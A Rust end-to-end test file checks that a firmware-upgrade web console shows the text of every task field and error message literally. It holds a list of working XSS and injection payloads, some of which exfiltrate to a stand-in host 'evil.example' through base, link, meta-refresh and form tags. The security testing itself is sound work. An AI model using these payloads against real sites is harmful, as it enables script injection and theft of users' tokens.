//! Markup and scripts in every field of a response are shown literally and never become an element.

use e2e::browser::Browser;
use e2e::console::Console;
use e2e::origin::Reply;
use e2e::platform::LAMPS;
use e2e::rig::Rig;
use e2e::words::EN;
use serde_json::{Value, json};
use std::sync::Mutex;
use thirtyfour::Key;

/// Texts that would run a script, load a resource or leave their context if they were inserted as markup.
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [
        "<img src=x onerror=window.__pwn=1>",
        "<script>window.__pwn=1</script>",
        "\"><script>window.__pwn=1</script>",
        "'><img src=x onerror=window.__pwn=1>",
        "</textarea><script>window.__pwn=1</script>",
        "</title><script>window.__pwn=1</script>",
        "</style><script>window.__pwn=1</script>",
        "</script><script>window.__pwn=1</script>",
        "<svg onload=window.__pwn=1>",
        "<svg><script>window.__pwn=1</script></svg>",
        "<svg><animate onbegin=window.__pwn=1 attributeName=x dur=1s>",
        "<math><mtext><style><img src=x onerror=window.__pwn=1></style></mtext></math>",
        "<iframe srcdoc=\"<script>parent.__pwn=1</script>\"></iframe>",
        "<iframe src=javascript:parent.__pwn=1></iframe>",
        "<a href=javascript:window.__pwn=1>x</a>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=//evil.example/>",
        "<form action=//evil.example/><input name=token><button>x</button></form>",
        "<img src='//evil.example/?dangling=",
        "<!--",
        "]]><b>x</b>",
        "\" onmouseover=window.__pwn=1 autofocus onfocus=window.__pwn=1 x=\"",
        "{{7*7}}${7*7}#{7*7}<%=7*7%>",
        "`${window.__pwn=1}`",
        "&lt;b&gt; &amp; &#60;img src=x onerror=window.__pwn=1&#62;",
        "javascript:window.__pwn=1",
        "a\u{2028}window.__pwn=1\u{2029}b",
        "%3Cscript%3Ewindow.__pwn=1%3C/script%3E",
        "\\u003cimg src=x onerror=window.__pwn=1\\u003e",
        "<template><b>x</b></template><slot name=x>",
    ]
    .map(ToOwned::to_owned)
    .into();
    all.push("<b>x</b>".repeat(1280));
    all
}

/// A task with this text in every text field.
pub(crate) fn task(id: &str, text: &str) -> Value {
    json!({
        "id": id, "product_id": LAMPS, "name": text, "description": text,
        "from_version": "1", "from_version_url": text, "from_version_md5": text, "from_version_size": "1",
        "target_version": "2", "target_version_url": text, "target_version_md5": text, "target_version_size": "2",
        "upgrade_count": "0", "status": text, "creator": text, "create_time": text, text: text,
    })
}

/// Makes the API answer reads of this path with status and body, with CORS headers.
pub(crate) fn reads(rig: &Rig, path: &'static str, status: u16, body: impl Into<Vec<u8>>) {
    let reply = Reply::ok("application/json", body).with("access-control-allow-origin", rig.console.name());
    let reply = Reply { status, ..reply };
    rig.api
        .answers(move |request| (request.path() == path && request.reads()).then(|| reply.clone()));
}

/// Makes the API answer with an empty firmware library and no device counts for every product.
pub(crate) fn has_nothing_around(rig: &Rig) {
    let allowed = rig.console.name().to_owned();
    rig.api.answers(move |request| {
        let body = match request.path() {
            path if path.ends_with("/firmware/statistics") => "{}",
            path if path.ends_with("/firmwares") => r#"{"list":[],"count":0}"#,
            _ => return None,
        };
        let reply = Reply::ok("application/json", body).with("access-control-allow-origin", &allowed);
        request.reads().then_some(reply)
    });
}

/// Makes the API store these tasks in memory and serve reads and writes of them, with CORS headers. A create always
/// adds `created`.
pub(crate) fn keeps(rig: &Rig, tasks: Vec<Value>, created: Value) {
    let tasks = Mutex::new(tasks);
    has_nothing_around(rig);
    rig.api.answers(move |request| {
        let mut tasks = tasks.lock().unwrap();
        let body: Value = serde_json::from_str(&request.body).unwrap_or_default();
        let reply = match (request.method.as_str(), request.path()) {
            ("GET" | "POST", TASKS) => Reply::json(&Value::Array(tasks.clone())),
            ("POST", "/v2/upgrade/firmware/task") => {
                tasks.push(created.clone());
                Reply::json(&created)
            }
            ("POST", "/v2/upgrade/firmware/task/status") => {
                let wanted = tasks.iter_mut().filter(|task| task["id"] == body["upgrade_task_id"]);
                wanted.for_each(|task| task["status"] = body["status"].clone());
                Reply::ok("application/json", "")
            }
            ("POST", "/v2/upgrade/firmware/task/delete") => {
                tasks.retain(|task| task["id"] != body["id"]);
                Reply::ok("application/json", "")
            }
            _ => return None,
        };
        Some(reply.with("access-control-allow-origin", "*"))
    });
}

/// Path of the task list.
pub(crate) const TASKS: &str = "/v2/upgrade/firmware/tasks";

/// Counts of the page's elements by kind and attributes.
async fn elements(browser: &Browser) -> Value {
    browser.run(include_str!("../pages/count-elements.js")).await
}

/// Text contents of the elements of a selector.
pub(crate) async fn texts(browser: &Browser, selector: &str) -> Vec<String> {
    let script = format!("return [...document.querySelectorAll({selector:?})].map(e => e.textContent)");
    let texts = browser.run(&script).await;
    let texts = texts.as_array().unwrap().iter();
    texts.map(|text| text.as_str().unwrap().to_owned()).collect()
}

/// Serves a list with these texts and waits until the page shows it.
async fn show_list(rig: &Rig, console: &Console<'_>, texts: &[String], stopped: bool) {
    let rows = texts.iter().enumerate().map(|(at, text)| {
        let mut task = task(&format!("{}-{at}", text.len()), text);
        if stopped {
            task["status"] = json!("0");
        }
        task
    });
    let mut rows: Vec<Value> = rows.collect();
    // Rows that cannot be parsed are shown as raw JSON.
    rows.extend(texts.iter().map(|text| json!({ "id": 7, text: text, "name": text })));
    reads(rig, TASKS, 200, Value::from(rows).to_string());
    console.button(EN.refresh).click().await;
    let first = json!([texts[0], if stopped { 0 } else { texts.len() }]);
    let read = "return [document.querySelector('td .name')?.textContent,
        document.querySelectorAll('td .badge-unknown').length]";
    let shown = async || match console.browser.run(read).await {
        current if current == first => Ok(()),
        current => Err(current.to_string()),
    };
    console.browser.until("the list is shown", shown).await;
}

/// Checks that no payload has run and that the attacker has received no request.
pub(crate) async fn nothing_ran(rig: &Rig, browser: &Browser) {
    assert_eq!(browser.run("return typeof window.__pwn").await, "undefined");
    assert_eq!(rig.attacker.requests(), []);
}

/// T-XSS-1: every field of the list, the details and the confirmations.
#[tokio::test]
async fn every_field_of_a_list_is_shown_literally() {
    let rig = Rig::start();
    let browser = rig.open(&rig.console.url()).await;
    let console = Console::new(&browser, &EN);
    console.sign_in_with_token(rig.platform.token()).await;
    console.choose_product(e2e::platform::LAMPS_NAME).await;
    let payloads = payloads();
    let harmless: Vec<String> = (0..payloads.len()).map(|at| format!("harmless {at}")).collect();
    show_list(&rig, &console, &harmless, false).await;
    let plain = elements(&browser).await;
    show_list(&rig, &console, &payloads, false).await;
    assert_eq!(
        elements(&browser).await,
        plain,
        "a text has become an element or an attribute"
    );
    assert_eq!(texts(&browser, "td .name").await, payloads);
    assert_eq!(texts(&browser, "td .description").await, payloads);
    let titles = browser
        .run("return [...document.querySelectorAll('td .description')].map(e => e.title)")
        .await;
    assert_eq!(titles, json!(payloads));
    for (at, state) in texts(&browser, "td .badge").await.iter().enumerate() {
        let cut: String = payloads[at].chars().take(40).collect();
        assert!(state.contains(&cut), "{state} without {cut}");
    }
    for (at, raw) in texts(&browser, "td .raw").await.iter().enumerate() {
        let json = Value::from(payloads[at].as_str()).to_string();
        let start: String = json.chars().take(40).collect();
        assert!(raw.contains(&start), "{raw} without {start}");
    }

    // Details and confirmations, for all texts but the long one. Actions need a known status.
    show_list(&rig, &console, &payloads, true).await;
    let mut shape = Value::Null;
    for payload in payloads.iter().take(payloads.len() - 1).step_by(3) {
        let open = format!(
            "[...document.querySelectorAll('td .name')].find(e => e.textContent === {}).click()",
            json!(payload)
        );
        browser.run(&open).await;
        let wanted = json!([payload, payload, payload, payload, payload, payload]);
        let read = "const of = s => document.querySelector('#details ' + s)?.textContent;
            return [of('h2'), of('.long'), ...['from-url', 'from-md5', 'target-url', 'target-md5'].map(i => of('#d-' + i))]";
        let same = async || match browser.run(read).await {
            current if current == wanted => Ok(()),
            current => Err(current.to_string()),
        };
        browser.until("the details show the text", same).await;
        let elements = elements(&browser).await;
        assert!(
            shape == Value::Null || shape == elements,
            "{payload}: {elements} was {shape}"
        );
        shape = elements;
        browser.press(Key::Escape).await;
        let row = format!(
            "[...document.querySelectorAll('tr')].find(e => e.querySelector('.name')?.textContent === {})
                .querySelector('.cell-actions > button:nth-of-type(2)').click()",
            json!(payload)
        );
        browser.run(&row).await;
        let title = format!("Delete “{payload}”?");
        let confirmation = async || match browser
            .run("return document.querySelector('#confirm h2')?.textContent")
            .await
        {
            current if current == title => Ok(()),
            current => Err(current.to_string()),
        };
        browser.until("the confirmation shows the text", confirmation).await;
        browser.press(Key::Escape).await;
    }
    nothing_ran(&rig, &browser).await;
    browser.finish().await;
}

/// T-XSS-1: error messages of the platform, in the documented form and as plain text.
#[tokio::test]
async fn every_error_message_is_shown_literally() {
    let rig = Rig::start();
    let browser = rig.open(&rig.console.url()).await;
    browser.expect_in_log("status of 400");
    browser.expect_in_log("status of 500");
    let console = Console::new(&browser, &EN);
    console.sign_in_with_token(rig.platform.token()).await;
    console.choose_product(e2e::platform::LAMPS_NAME).await;
    // The console does not repeat a read that failed with 500, unlike one with 502.
    for (status, documented) in [(400, true), (500, false)] {
        let mut shape = Value::Null;
        for payload in payloads() {
            let body = match documented {
                true => json!({ "error": { "code": 4_001_001, "msg": payload } }).to_string(),
                false => payload.clone(),
            };
            reads(&rig, TASKS, status, body);
            console.button(EN.refresh).click().await;
            let start: String = payload.chars().take(200).collect();
            let shown = async || match texts(&browser, "main").await.concat() {
                current if current.contains(&start) => Ok(()),
                current => Err(current.chars().take(300).collect()),
            };
            browser.until("the message is shown", shown).await;
            let elements = elements(&browser).await;
            assert!(
                shape == Value::Null || shape == elements,
                "{payload}: {elements} was {shape}"
            );
            shape = elements;
        }
    }
    nothing_ran(&rig, &browser).await;
    browser.finish().await;
}
